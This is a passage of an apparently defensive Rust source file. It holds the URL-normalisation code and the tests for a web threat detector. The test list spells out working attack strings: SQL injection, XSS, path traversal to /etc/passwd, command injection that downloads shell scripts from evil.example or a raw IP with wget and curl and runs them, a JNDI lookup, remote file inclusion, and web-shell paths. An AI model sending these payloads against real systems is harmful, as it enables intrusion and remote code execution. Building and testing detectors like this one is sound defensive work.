                .unwrap_or(after.len());
            rest = &after[end..];
            break;
        }
    }
    match rest.iter().position(|&b| b == b'?' || b == b'#') {
        Some(i) => (&rest[..i], Some(&rest[i + 1..])),
        None => (rest, None),
    }
}

/// How many rounds of percent-decoding to apply: enough for double and triple encoding.
const DECODE_ROUNDS: usize = 3;

/// Byte classes that make [`normalise`] do work, gathered in one pass by [`scan`].
const PERCENT: u8 = 1;
const BACKSLASH: u8 = 2;
const NUL: u8 = 4;
const AMPERSAND: u8 = 8;
const NON_ASCII: u8 = 16;
const PLUS: u8 = 32;

const BYTE_CLASS: [u8; 256] = {
    let mut table = [0u8; 256];
    table[b'%' as usize] = PERCENT;
    table[b'\\' as usize] = BACKSLASH;
    table[0] = NUL;
    table[b'&' as usize] = AMPERSAND;
    table[b'+' as usize] = PLUS;
    let mut i = 0x80;
    while i < 256 {
        table[i] = NON_ASCII;
        i += 1;
    }
    table
};

/// The union of the byte classes present in `s`.
fn scan(s: &[u8]) -> u8 {
    s.iter().fold(0, |acc, &b| acc | BYTE_CLASS[usize::from(b)])
}

/// Whether some `&` in `s` starts a character reference.
fn has_entity(s: &[u8]) -> bool {
    s.iter()
        .enumerate()
        .any(|(i, &b)| b == b'&' && starts_entity(&s[i + 1..]))
}

/// Normalises one URL part for matching. Borrows when nothing needs rewriting, otherwise makes
/// one copy and decodes it in place (every decoding step only shrinks the text). Case is left
/// alone because the patterns are case-insensitive.
fn normalise(raw: &[u8], is_query: bool) -> Cow<'_, [u8]> {
    let flags = scan(raw);
    let plus = is_query && flags & PLUS != 0;
    let rewrite = flags & (PERCENT | BACKSLASH | NUL | NON_ASCII) != 0
        || plus
        || (flags & AMPERSAND != 0 && has_entity(raw));
    if !rewrite {
        return Cow::Borrowed(raw);
    }
    let mut buf = raw.to_vec();
    if plus {
        for b in &mut buf {
            if *b == b'+' {
                *b = b' ';
            }
        }
    }
    let mut flags = flags;
    if flags & PERCENT != 0 {
        for _ in 0..DECODE_ROUNDS {
            if !percent_decode(&mut buf) {
                break;
            }
        }
        flags = scan(&buf);
    }
    if flags & BACKSLASH != 0 {
        decode_backslash_escapes(&mut buf);
    }
    if flags & AMPERSAND != 0 {
        decode_html_entities(&mut buf);
    }
    if flags & NON_ASCII != 0 {
        fold_lookalikes(&mut buf);
    }
    // Entities can yield NULs and backslashes that the scan above did not see.
    let flags = scan(&buf);
    if flags & NUL != 0 {
        buf.retain(|&b| b != 0);
    }
    if flags & BACKSLASH != 0 {
        for b in &mut buf {
            if *b == b'\\' {
                *b = b'/';
            }
        }
    }
    Cow::Owned(buf)
}

/// Whether the bytes after an `&` begin a character reference that [`decode_html_entities`]
/// would decode.
fn starts_entity(rest: &[u8]) -> bool {
    rest.first() == Some(&b'#') || named_entity(rest).is_some()
}

fn hex_val(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

fn hex_at(s: &[u8], i: usize, len: usize) -> Option<u32> {
    let digits = s.get(i..i + len)?;
    digits
        .iter()
        .try_fold(0u32, |acc, &d| Some(acc * 16 + u32::from(hex_val(d)?)))
}

/// An in-place rewriter: `write` trails `read`, so output never overtakes unread input as long
/// as each replacement is no longer than what it replaces.
struct Rewriter<'a> {
    buf: &'a mut Vec<u8>,
    read: usize,
    write: usize,
    changed: bool,
}

impl<'a> Rewriter<'a> {
    fn new(buf: &'a mut Vec<u8>) -> Self {
        Self {
            buf,
            read: 0,
            write: 0,
            changed: false,
        }
    }

    fn peek(&self) -> Option<u8> {
        self.buf.get(self.read).copied()
    }

    fn rest(&self) -> &[u8] {
        self.buf.get(self.read..).unwrap_or_default()
    }

    /// Keeps the current byte.
    fn copy(&mut self) {
        if let Some(b) = self.peek() {
            self.buf[self.write] = b;
            self.write += 1;
            self.read += 1;
        }
    }

    /// Replaces `consumed` input bytes with `out` (which must not be longer).
    fn replace(&mut self, consumed: usize, out: &[u8]) {
        debug_assert!(out.len() <= consumed);
        self.buf[self.write..self.write + out.len()].copy_from_slice(out);
        self.write += out.len();
        self.read += consumed;
        self.changed = true;
    }

    /// Replaces `consumed` input bytes with the UTF-8 form of `cp`; false if `cp` is not a char.
    fn replace_char(&mut self, consumed: usize, cp: u32) -> bool {
        let Some(c) = char::from_u32(cp) else {
            return false;
        };
        let mut tmp = [0u8; 4];
        let encoded = c.encode_utf8(&mut tmp).as_bytes();
        if encoded.len() > consumed {
            return false;
        }
        self.replace(consumed, encoded);
        true
    }

    fn finish(self) -> bool {
        self.buf.truncate(self.write);
        self.changed
    }
}

/// One round of `%XX` and IIS-style `%uXXXX` decoding; false when nothing was decoded.
/// Runs between escapes are moved with `copy_within`, so clean stretches cost little.
fn percent_decode(buf: &mut Vec<u8>) -> bool {
    let Some(first) = buf.iter().position(|&b| b == b'%') else {
        return false;
    };
    let (mut read, mut write, mut changed) = (first, first, false);
    while read < buf.len() {
        if buf[read] == b'%' {
            if let Some(v) = hex_at(buf, read + 1, 2) {
                buf[write] = v as u8;
                (read, write, changed) = (read + 3, write + 1, true);
                continue;
            }
            let unicode = matches!(buf.get(read + 1), Some(b'u' | b'U'))
                .then(|| hex_at(buf, read + 2, 4))
                .flatten()
                .and_then(char::from_u32);
            if let Some(c) = unicode {
                // At most 3 UTF-8 bytes replace the 6 bytes of `%uXXXX`.
                let mut tmp = [0u8; 4];
                let encoded = c.encode_utf8(&mut tmp).as_bytes();
                buf[write..write + encoded.len()].copy_from_slice(encoded);
                (read, write, changed) = (read + 6, write + encoded.len(), true);
                continue;
            }
        }
        let next = buf[read + 1..]
            .iter()
            .position(|&b| b == b'%')
            .map_or(buf.len(), |p| read + 1 + p);
        buf.copy_within(read..next, write);
        write += next - read;
        read = next;
    }
    buf.truncate(write);
    changed
}

/// Decodes `\xHH` and `\u00HH` escapes (JavaScript/PHP string syntax) to the ASCII they stand for.
fn decode_backslash_escapes(buf: &mut Vec<u8>) {
    if !buf
        .windows(2)
        .any(|w| w[0] == b'\\' && matches!(w[1], b'x' | b'X' | b'u' | b'U'))
    {
        return;
    }
    let mut rw = Rewriter::new(buf);
    while let Some(b) = rw.peek() {
        if b == b'\\' {
            let rest = rw.rest();
            let value = match rest.get(1) {
                Some(b'x' | b'X') => hex_at(rest, 2, 2).map(|v| (v, 4)),
                Some(b'u' | b'U') => hex_at(rest, 2, 4).filter(|&v| v < 0x80).map(|v| (v, 6)),
                _ => None,
            };
            if let Some((v, len)) = value {
                rw.replace(len, &[v as u8]);
                continue;
            }
        }
        rw.copy();
    }
    rw.finish();
}

/// Named references worth decoding: the ones attacks use to hide markup and `javascript:`.
const NAMED_ENTITIES: &[(&[u8], u8)] = &[
    (b"lt;", b'<'),
    (b"gt;", b'>'),
    (b"quot;", b'"'),
    (b"apos;", b'\''),
    (b"amp;", b'&'),
    (b"colon;", b':'),
    (b"tab;", b'\t'),
    (b"newline;", b'\n'),
    (b"lpar;", b'('),
    (b"rpar;", b')'),
    (b"sol;", b'/'),
    (b"bsol;", b'\\'),
    (b"num;", b'#'),
    (b"equals;", b'='),
    (b"grave;", b'`'),
];

/// The named reference (after the `&`) that `rest` starts with, as (length, byte).
fn named_entity(rest: &[u8]) -> Option<(usize, u8)> {
    // Every name is 2 to 7 letters and a `;`: skip the table for `&utm_medium=` and the like.
    if !rest.iter().take(8).any(|&b| b == b';') {
        return None;
    }
    NAMED_ENTITIES
        .iter()
        .find(|(name, _)| rest.len() >= name.len() && rest[..name.len()].eq_ignore_ascii_case(name))
        .map(|(name, byte)| (name.len(), *byte))
}

/// Decodes HTML character references: numeric ones (`&#106;`, `&#x6a`, the `;` optional, as
/// browsers accept) and the named ones in [`NAMED_ENTITIES`] (with their `;`).
fn decode_html_entities(buf: &mut Vec<u8>) {
    if !buf
        .iter()
        .enumerate()
        .any(|(i, &b)| b == b'&' && starts_entity(&buf[i + 1..]))
    {
        return;
    }
    let mut rw = Rewriter::new(buf);
    while let Some(b) = rw.peek() {
        if b == b'&' {
            let rest = rw.rest().get(1..).unwrap_or_default();
            let (numeric, named) = (numeric_entity(rest), named_entity(rest));
            if numeric.is_some_and(|(cp, len)| rw.replace_char(1 + len, cp)) {
                continue;
            }
            if let Some((len, byte)) = named {
                rw.replace(1 + len, &[byte]);
                continue;
            }
        }
        rw.copy();
    }
    rw.finish();
}

/// Parses `#123;` / `#x7b;` (after the `&`); returns the code point and bytes consumed.
fn numeric_entity(s: &[u8]) -> Option<(u32, usize)> {
    if s.first() != Some(&b'#') {
        return None;
    }
    let (hex, start) = match s.get(1) {
        Some(b'x' | b'X') => (true, 2),
        _ => (false, 1),
    };
    let mut value: u32 = 0;
    let mut end = start;
    while let Some(&b) = s.get(end) {
        let digit = if hex {
            hex_val(b).map(u32::from)
        } else {
            b.is_ascii_digit().then(|| u32::from(b - b'0'))
        };
        let Some(d) = digit else { break };
        value = value
            .saturating_mul(if hex { 16 } else { 10 })
            .saturating_add(d);
        end += 1;
    }
    if end == start {
        return None;
    }
    if s.get(end) == Some(&b';') {
        end += 1;
    }
    Some((value, end))
}

/// Maps byte sequences that some servers treat as ASCII back to ASCII: overlong UTF-8
/// (`C0 AE` is `.`), malformed two-byte forms IIS accepted (`C0 2F`), and full-width or
/// division-slash look-alikes (`U+FF0E`, `U+2215`).
fn fold_lookalikes(buf: &mut Vec<u8>) {
    if !buf.iter().any(|&b| b >= 0xC0) {
        return;
    }
    let mut rw = Rewriter::new(buf);
    while let Some(b0) = rw.peek() {
        let rest = rw.rest();
        let b1 = rest.get(1).copied();
        let b2 = rest.get(2).copied();
        let mapped: Option<(u8, usize)> = match (b0, b1, b2) {
            (0xC0 | 0xC1, Some(c), _) if (0x80..0xC0).contains(&c) => {
                Some((((b0 & 0x01) << 6) | (c & 0x3F), 2))
            }
            (0xC0 | 0xC1, Some(c), _) if c < 0x80 && c != 0 => Some((c, 2)),
            (0xE0, Some(c1), Some(c2))
                if (0x80..0xA0).contains(&c1) && (0x80..0xC0).contains(&c2) =>
            {
                let cp = (u32::from(c1 & 0x3F) << 6) | u32::from(c2 & 0x3F);
                u8::try_from(cp).ok().filter(|v| *v < 0x80).map(|v| (v, 3))
            }
            (0xEF, Some(0xBC), Some(c)) => match c {
                0x8E => Some((b'.', 3)),
                0x8F => Some((b'/', 3)),
                0xBC => Some((b'\\', 3)),
                0x9C => Some((b'<', 3)),
                0x9E => Some((b'>', 3)),
                0x87 => Some((b'\'', 3)),
                0x82 => Some((b'"', 3)),
                _ => None,
            },
            (0xE2, Some(0x88), Some(0x95)) => Some((b'/', 3)),
            (0xE2, Some(0x88), Some(0x96)) => Some((b'\\', 3)),
            _ => None,
        };
        match mapped {
            Some((ascii, len)) => rw.replace(len, &[ascii]),
            None => rw.copy(),
        }
    }
    rw.finish();
}

/// Turns a matched byte span into short, printable, lower-case evidence.
fn tidy_snippet(bytes: &[u8]) -> String {
    const MAX_CHARS: usize = 48;
    let text = String::from_utf8_lossy(bytes);
    let mut out = String::with_capacity(text.len().min(MAX_CHARS * 2));
    let mut last_space = true;
    for c in text.chars() {
        let c = if c.is_control() || c.is_whitespace() {
            ' '
        } else {
            c
        };
        if c == ' ' {
            if last_space {
                continue;
            }
            last_space = true;
        } else {
            last_space = false;
        }
        out.extend(c.to_lowercase());
        if out.chars().count() >= MAX_CHARS {
            out.push('…');
            break;
        }
    }
    out.trim_end().to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::OnceLock;

    fn detector() -> &'static ThreatDetector {
        static DETECTOR: OnceLock<ThreatDetector> = OnceLock::new();
        DETECTOR.get_or_init(ThreatDetector::new)
    }

    #[test]
    fn every_rule_compiles_and_joins_the_sets() {
        for rule in RULES {
            let built = configure(&mut RegexBuilder::new(rule.pattern)).build();
            assert!(
                built.is_ok(),
                "pattern failed: {} ({built:?})",
                rule.pattern
            );
        }
        let d = detector();
        assert_eq!(d.rules.len(), RULES.len());
        assert_eq!(d.path_set.len(), RULES.len());
        let anywhere = RULES.iter().filter(|r| r.scope == Scope::Anywhere).count();
        assert_eq!(d.query_set.len(), anywhere);
    }

    #[test]
    fn detector_is_send_and_sync() {
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<ThreatDetector>();
    }

    #[test]
    fn kind_names_are_snake_case() {
        assert_eq!(ThreatKind::SqlInjection.as_str(), "sql_injection");
        assert_eq!(ThreatKind::ScannerProbe.as_str(), "scanner_probe");
        assert_eq!(
            ThreatKind::CrossSiteScripting.as_str(),
            "cross_site_scripting"
        );
    }

    #[test]
    fn clean_url_has_no_evidence() {
        assert_eq!(detector().inspect("/shop?q=shoes"), UrlFacts::default());
        assert_eq!(detector().inspect(""), UrlFacts::default());
        assert_eq!(detector().inspect("*"), UrlFacts::default());
    }

    #[test]
    fn evidence_names_the_match() {
        let facts = detector().inspect("/.env");
        assert_eq!(facts.threat, Some(ThreatKind::ScannerProbe));
        assert_eq!(facts.evidence, "probe: /.env");
        let facts = detector().inspect("/item?id=1%20UNION%20SELECT%20password%20FROM%20users");
        assert_eq!(facts.threat, Some(ThreatKind::SqlInjection));
        assert_eq!(facts.evidence, "sql injection: union select");
    }

    #[test]
    fn full_urls_are_split_from_their_host() {
        let d = detector();
        let facts = d.inspect("https://shop.example/wp-login.php");
        assert_eq!(facts.threat, Some(ThreatKind::ScannerProbe));
        assert_eq!(facts.evidence, "probe: /wp-login.php");
        assert_eq!(
            d.inspect("HTTP://shop.example:8080/.git/config").threat,
            Some(ThreatKind::ScannerProbe)
        );
        assert_eq!(d.inspect("https://shop.example").threat, None);
        assert_eq!(
            d.inspect("https://shop.example?q=%3Cscript%3E").threat,
            Some(ThreatKind::CrossSiteScripting)
        );
        // A probe path named in a query value is a search, not a probe.
        assert_eq!(d.inspect("/search?q=wp-login.php+not+working").threat, None);
    }

    #[test]
    fn normalisation_defeats_encodings() {
        assert_eq!(&*normalise(b"%252e%252e%252f", false), b"../");
        assert_eq!(&*normalise(b"%25252e", false), b".");
        assert_eq!(&*normalise(b"a+b%2Bc", true), b"a b+c");
        assert_eq!(&*normalise(b"a+b", false), b"a+b");
        assert_eq!(&*normalise(b"..%c0%af..%c0%ae", false), b"../...");
        assert_eq!(&*normalise(b"%uff0e%uff0e%u2215", false), b"../");
        assert_eq!(&*normalise(b"..\\..\\x", false), b"../../x");
        assert_eq!(&*normalise(b"a%00b", false), b"ab");
        assert_eq!(&*normalise(b"&#106;&#x61&lt;&quot;", true), b"ja<\"");
        assert_eq!(&*normalise(b"\\x27\\x4F", true), b"'O");
        assert!(matches!(normalise(b"/shop/shoes", false), Cow::Borrowed(_)));
        assert!(matches!(
            normalise(b"q=shoes&page=2", true),
            Cow::Borrowed(_)
        ));
    }

    /// (url, expected kind) for each family the brief names.
    const ATTACKS: &[(&str, ThreatKind)] = &[
        ("/item?id=1 union select 1,2,3", ThreatKind::SqlInjection),
        ("/item?id=1%27%20or%201%3D1--", ThreatKind::SqlInjection),
        ("/login?user=admin'--", ThreatKind::SqlInjection),
        ("/item?id=1 and sleep(5)", ThreatKind::SqlInjection),
        (
            "/item?id=1 and benchmark(5000000,md5(1))",
            ThreatKind::SqlInjection,
        ),
        (
            "/item?id=1 and 1=(select count(*) from information_schema.tables)",
            ThreatKind::SqlInjection,
        ),
        ("/item?id=1;drop table users", ThreatKind::SqlInjection),
        (
            "/item?id=1/**/union/**/select/**/1",
            ThreatKind::SqlInjection,
        ),
        ("/item?id=1 /*!50000union*/", ThreatKind::SqlInjection),
        (
            "/item?id=%2527%2520or%25201%253D1",
            ThreatKind::SqlInjection,
        ),
        (
            "/search?q=<script>alert(1)</script>",
            ThreatKind::CrossSiteScripting,
        ),
        (
            "/search?q=%3Csvg%2Fonload%3Dalert(1)%3E",
            ThreatKind::CrossSiteScripting,
        ),
        (
            "/search?q=<img src=x onerror=alert(1)>",
            ThreatKind::CrossSiteScripting,
        ),
        (
            "/go?to=javascript:alert(document.domain)",
            ThreatKind::CrossSiteScripting,
        ),
        (
            "/p?name=\"><body onload=steal()>",
            ThreatKind::CrossSiteScripting,
        ),
        ("/p?x=document.cookie", ThreatKind::CrossSiteScripting),
        (
            "/download?file=../../../../etc/passwd",
            ThreatKind::PathTraversal,
        ),
        (
            "/download?file=%252e%252e%252f%252e%252e%252fwin.ini",
            ThreatKind::PathTraversal,
        ),
        ("/static/..%5c..%5c..%5cboot.ini", ThreatKind::PathTraversal),
        ("/img?f=....//....//etc/hosts", ThreatKind::PathTraversal),
        (
            "/ping?host=127.0.0.1;cat /etc/passwd",
            ThreatKind::CommandInjection,
        ),
        ("/ping?host=127.0.0.1|id", ThreatKind::CommandInjection),
        ("/ping?host=$(whoami)", ThreatKind::CommandInjection),
        ("/ping?host=`uname -a`", ThreatKind::CommandInjection),
        (
            "/x?u=;wget http://evil.example/x.sh|sh",
            ThreatKind::CommandInjection,
        ),
        (
            "/x?u=curl -s http://evil.example/a | bash",
            ThreatKind::CommandInjection,
        ),
        (
            "/?x=${jndi:ldap://evil.example/a}",
            ThreatKind::CommandInjection,
        ),
        ("/wp-login.php", ThreatKind::ScannerProbe),
        ("/wp-admin/setup-config.php", ThreatKind::ScannerProbe),
        ("/wp-admin/", ThreatKind::ScannerProbe),
        ("/wordpress/wp-admin/install.php", ThreatKind::ScannerProbe),
        ("/wp-admin/admin.php?page=x", ThreatKind::ScannerProbe),
        ("/xmlrpc.php", ThreatKind::ScannerProbe),
        ("/.env", ThreatKind::ScannerProbe),
        ("/api/.env.production", ThreatKind::ScannerProbe),
        ("/.git/config", ThreatKind::ScannerProbe),
        ("/.git/HEAD", ThreatKind::ScannerProbe),
        ("/.svn/entries", ThreatKind::ScannerProbe),
        ("/.DS_Store", ThreatKind::ScannerProbe),
        ("/phpmyadmin/index.php", ThreatKind::ScannerProbe),
        ("/server-status", ThreatKind::ScannerProbe),
        ("/actuator/env", ThreatKind::ScannerProbe),
        ("/cgi-bin/luci", ThreatKind::ScannerProbe),
        (
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            ThreatKind::ScannerProbe,
        ),
        ("/config.php.bak", ThreatKind::ScannerProbe),
        ("/backup.sql", ThreatKind::ScannerProbe),
        ("/db/dump.sql.gz", ThreatKind::ScannerProbe),
        ("/.aws/credentials", ThreatKind::ScannerProbe),
        ("/boaform/admin/formLogin", ThreatKind::ScannerProbe),
        ("/c99.php", ThreatKind::ShellUpload),
        ("/r57.php", ThreatKind::ShellUpload),
        ("/wp-content/plugins/x/shell.php", ThreatKind::ShellUpload),
        (
            "/wp-content/uploads/2024/05/avatar.php",
            ThreatKind::ShellUpload,
        ),
        ("/uploads/invoice.pdf.php", ThreatKind::ShellUpload),
        (
            "/index.php?page=php://filter/convert.base64-encode/resource=index",
            ThreatKind::FileInclusion,
        ),
        (
            "/index.php?file=file:///etc/passwd",
            ThreatKind::FileInclusion,
        ),
        (
            "/index.php?page=data://text/plain;base64,PD9waHA=",
            ThreatKind::FileInclusion,
        ),
        (
            "/index.php?page=http://evil.example/shell.txt?",
            ThreatKind::FileInclusion,
        ),
        ("/hello?name={{7*7}}", ThreatKind::TemplateInjection),
        (
            "/hello?name={{''.__class__.__mro__}}",
            ThreatKind::TemplateInjection,
        ),
        ("/people?cn=*)(|(mail=*))", ThreatKind::LdapInjection),
        (
            "/r?next=%0d%0aSet-Cookie:%20sid=1",
            ThreatKind::CrlfInjection,
        ),
        (
            "/api?xml=<!DOCTYPE x [<!ENTITY e SYSTEM 'x'>]>",
            ThreatKind::XmlInjection,
        ),
        ("/login?user=admin%27--+&pass=x", ThreatKind::SqlInjection),
        ("/item?id=1%27+or+%271%27%3D%271", ThreatKind::SqlInjection),
        ("/item?id=1)) or ((1=1", ThreatKind::SqlInjection),
        (
            "/item?id=-1 union all select null,null,@@version--",
            ThreatKind::SqlInjection,
        ),
        (
            "/item?id=1; waitfor delay '0:0:5'--",
            ThreatKind::SqlInjection,
        ),
        ("/item?id=if(1=1,sleep(5),0)", ThreatKind::SqlInjection),
        (
            "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
            ThreatKind::CrossSiteScripting,
        ),
        (
            "/search?q=<svg><animate onbegin=alert(1)>",
            ThreatKind::CrossSiteScripting,
        ),
        (
            "/search?q=<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            ThreatKind::CrossSiteScripting,
        ),
        (
            "/search?q=%22%3E%3Ciframe%20src%3Dx%3E",
            ThreatKind::CrossSiteScripting,
        ),
        (
            "/..%c0%af..%c0%af..%c0%afetc/passwd",
            ThreatKind::PathTraversal,
        ),
        (
            "/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
            ThreatKind::PathTraversal,
        ),
        ("/manager/..;/html", ThreatKind::PathTraversal),
        (
            "/download?f=C:%5CWindows%5Cwin.ini",
            ThreatKind::PathTraversal,
        ),
        (
            "/cgi-bin/test.cgi?x=%0a/bin/cat%20/etc/passwd",
            ThreatKind::CommandInjection,
        ),
        ("/x?ip=1.1.1.1%26%26whoami", ThreatKind::CommandInjection),
        (
            "/x?ip=1.1.1.1%0Aping -c 3 evil.example",
            ThreatKind::CommandInjection,
        ),
        (
            "/shell?cd+/tmp;wget+http://1.2.3.4/m.sh;sh+m.sh",
            ThreatKind::CommandInjection,
        ),
        ("/.env.bak", ThreatKind::ScannerProbe),
        ("/.git/HEAD", ThreatKind::ScannerProbe),
        ("/wp-content/debug.log", ThreatKind::ScannerProbe),
        ("/.vscode/sftp.json", ThreatKind::ScannerProbe),
        ("/_ignition/execute-solution", ThreatKind::ScannerProbe),
        ("/HNAP1/", ThreatKind::ScannerProbe),
        ("/wso.php", ThreatKind::ShellUpload),
        ("/alfa.php?path=/", ThreatKind::ShellUpload),
        ("/uploads/image.jpg.php", ThreatKind::ShellUpload),
        ("/sites/default/files/x.phtml", ThreatKind::ShellUpload),
        ("/index.php?lang=expect://id", ThreatKind::FileInclusion),
        (
            "/index.php?GALLERY_BASEDIR=http://evil.example/",
            ThreatKind::FileInclusion,
        ),
        ("/x?name=${7*7}", ThreatKind::TemplateInjection),
        (
            "/x.action?redirect:%24%7B%23context%5B%27xwork.MethodAccessor.denyMethodExecution%27%5D%3Dfalse%7D",
            ThreatKind::TemplateInjection,
        ),
    ];

    #[test]
    fn detects_each_attack_family() {
        let d = detector();
        let mut wrong = Vec::new();
        for (url, kind) in ATTACKS {
            let facts = d.inspect(url);
            if facts.threat != Some(*kind) || facts.evidence.is_empty() {
                wrong.push(format!("{url} -> {facts:?} (want {kind:?})"));
            }
        }
        assert!(wrong.is_empty(), "misclassified:\n{}", wrong.join("\n"));
    }

    /// Realistic traffic that must never be flagged.
    const ORDINARY: &[&str] = &[
        // Shop pages and product slugs.
        "/",
        "/index.html",
        "/shop",
        "/shop/",
        "/shop?q=shoes",
        "/shop/mens/shoes/running",
        "/shop/womens/dresses?page=2",
        "/product/nike-air-zoom-pegasus-40",
        "/product/levis-501-original-fit-jeans?color=indigo&size=32x34",
        "/products/select-comfort-sleep-number-c2",
        "/products/union-jack-cushion-cover",
        "/products/script-font-wall-decal",
        "/products/drop-leaf-dining-table",
        "/products/null-and-void-t-shirt",
        "/products/red-alert-2-poster",
        "/products/the-order-of-the-phoenix-hardcover",
        "/products/update-kit-v2?variant=40404040",
        "/products/iphone-15-pro-max-case.html",
        "/p/B08N5WRWNW",
        "/dp/B0BSHF7WHW/ref=sr_1_1?keywords=usb+c+cable&qid=1700000000&sr=8-1",
        "/item/12345?ref=homepage",
        "/collections/sale",
        "/collections/all?sort_by=price-ascending",
        "/collections/summer?filter.v.price.gte=10&filter.v.price.lte=50",
        "/category/electronics/laptops?brand=lenovo&brand=dell",
        "/c/home-garden/furniture/sofas-couches",
        "/catalog/product/view/id/4821/s/blue-oxford-shirt/category/12/",
        "/cart",
        "/cart/add?id=40404040&quantity=1",
        "/checkout",
        "/checkout/shipping?step=2",
        "/checkout/payment?method=card",
        "/order/confirmation/ORD-2024-000123",
        "/orders/8831/track",
        "/account/orders?status=shipped",
        "/account/order-history",
        "/account/profile/update",
        "/account/addresses/new",
        "/wishlist",
        "/compare?ids=101,102,103",
        "/gift-cards",
        "/stores/london-oxford-street",
        "/store-locator?lat=51.5074&lng=-0.1278&radius=10",
        "/size-guide",
        "/returns-and-exchanges",
        "/shipping-policy",
        "/drop-shipping",
        "/wholesale/drop-shipping-program",
        "/brands/o-neill",
        "/brands/l-oreal-paris",
        "/brands/dr-martens",
        "/brands/marks-and-spencer",
        // Search queries with tricky words and punctuation.
        "/search?q=o'reilly books",
        "/search?q=o%27reilly+books",
        "/search?q=o%27reilly%20books&page=3",
        "/search?q=select+comfort+mattress",
        "/search?q=union+jack+flag",
        "/search?q=script+writing+course",
        "/search?q=order+tracking",
        "/search?q=drop+shipping+suppliers",
        "/search?q=update+my+address",
        "/search?q=null+pointer+exception",
        "/search?q=red+alert+board+game",
        "/search?q=alert+bracelet+medical",
        "/search?q=javascript%3A+the+good+parts",
        "/search?q=javascript: the definitive guide",
        "/search?q=select+all+that+apply",
        "/search?q=rock+and+roll",
        "/search?q=rock+%27n%27+roll",
        "/search?q=salt+%26+pepper+grinder",
        "/search?q=black+or+white",
        "/search?q=cats+or+dogs&page=2",
        "/search?q=tom+%26+jerry+dvd",
        "/search?q=%22exact+phrase%22",
        "/search?q=it%27s+a+wonderful+life",
        "/search?q=don't+stop+believin",
        "/search?q=women's+running+shoes",
        "/search?q=men%27s+watches+under+%24100",
        "/search?q=100%25+cotton",
        "/search?q=c%2B%2B+programming",
        "/search?q=c%23+in+depth",
        "/search?q=sleep+mask",
        "/search?q=sleep (eye mask)",
        "/search?q=cat+food",
        "/search?q=cat+tree+for+large+cats",
        "/search?q=id+card+holder",
        "/search?q=shell+jacket",
        "/search?q=sea+shell+necklace",
        "/search?q=drop+leaf+table",
        "/search?q=insert+coin+arcade",
        "/search?q=delete+account",
        "/search?q=sql+tutorial+for+beginners",
        "/search?q=learn+sql+select+statements",
        "/search?q=information+schema",
        "/search?q=table+and+chairs",
        "/search?q=where+is+my+order",
        "/search?q=from+dusk+till+dawn",
        "/search?q=1+or+2+bedroom",
        "/search?q=size+10+or+11",
        "/search?q=2+for+1+deals",
        "/search?q=50%25+off",
        "/search?q=%E2%82%AC50+gift+card",
        "/search?q=caf%C3%A9+au+lait",
        "/search?q=na%C3%AFve+art",
        "/search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E",
        "/search?q=%D0%BA%D1%83%D1%80%D1%82%D0%BA%D0%B0",
        "/search?q=%F0%9F%98%80+mug",
        "/search?q=what's+new",
        "/search?q=dad's+birthday+gift",
        "/search?q=\"tom and jerry\"",
        "/search?q=and",
        "/search?q=or",
        "/search?q=select",
        "/search?q=union",
        "/search?q=script",
        "/search?q=alert",
        "/search?q=sleep",
        "/search?q=exec+chair",
        "/search?q=executive+desk",
        "/search?q=char+grill",
        "/search?q=concat+function+excel",
        "/search?q=eval+kit",
        "/search?q=system+of+a+down",
        "/search?q=solar+system+(kids)",
        "/search?q=include+batteries",
        "/search?q=cmd+key+not+working",
        "/search?q=wget+vs+curl",
        "/search?q=ping+pong+table",
        "/search?q=echo+dot",
        "/search?q=amazon+echo+show",
        "/search?q=ls+engine",
        "/search?q=head+%26+shoulders",
        "/search?q=more+or+less",
        "/search?q=type+c+cable",
        "/search?q=etc+etc",
        "/search?q=passwd+reset",
        "/search?q=win+a+prize",
        "/search?q=boot+camp",
        "/search?q=windows+11+laptop",
        "/search?q=env+file+example",
        "/search?q=wp-login.php+not+working",
        "/search?q=.env+file",
        "/search?q=php+tutorial",
        "/search?q=file+organizer",
        "/search?q=data+cable",
        "/search?q=expect+the+unexpected",
        "/search?q=template+for+invoices",
        "/search?q=onload+boat+trailer",
        "/search?q=on+sale",
        "/search?q=online+exclusive",
        "/search?q=error+code+404",
        "/search?q=focus+st+parts",
        "/search?q=document+scanner",
        "/search?q=cookie+jar",
        "/search?q=window+blinds",
        "/search?q=location+services",
        "/search?q=confirm+email",
        "/search?q=prompt+delivery",
        "/search?q=svg+icons+pack",
        "/search?q=img+tag",
        "/search?q=body+lotion",
        "/search?q=a+%3C+b",
        "/search?q=price+%3E+100",
        "/search?q=5+%3E+3",
        "/search?q=1%3D1+replacement+part",
        "/search?q=x%3Dy",
        "/search?q=--+best+sellers+--",
        "/search?q=%23hashtag",
        "/search?q=50%2F50+split",
        "/search?q=ac%2Fdc+t-shirt",
        "/search?q=and%2For",
        "/search?q=ready...+set...+go",
        "/search?q=wait+for+it...",
        "/search?q=$(cheap)+deals",
        "/search?q={curly}+braces",
        "/search?q=[bracketed]",
        "/search?q=pipe|wrench",
        "/search?q=semi;colon",
        "/search?q=backslash\\test",
        "/search?q=tilde~shirt",
        "/search?q=at%40home",
        "/search?q=user+manual",
        "/search?q=version+2",
        "/search?q=database+administrator+jobs",
        "/search?q=schema+markup",
        "/search?q=having+fun",
        "/search?q=group+by+color",
        "/search?q=order+by+price",
        "/search?q=sort+by+newest",
        "/search?q=where+to+buy",
        "/search?q=like+new",
        "/search?q=true+religion+jeans",
        "/search?q=false+eyelashes",
        "/search?q=into+the+wild",
        "/search?q=outfile+organizer",
        "/search?q=load+balancer",
        "/search?q=truncate+text+css",
        "/search?q=create+account",
        "/search?q=alter+ego",
        "/search?q=drop+earrings",
        "/search?q=declare+independence",
        "/search?q=waitfor+it",
        "/search?q=cast+iron+skillet",
        "/search?q=convert+pdf",
        "/search?q=if+you+give+a+mouse+a+cookie",
        "/search?q=case+when+closed",
        "/search?q=between+the+lines",
        "/search?q=%C2%BFqu%C3%A9+tal%3F",
        "/search?query=nike&category=shoes&sort=relevance",
        "/search?keywords=blue+dress&min_price=20&max_price=80",
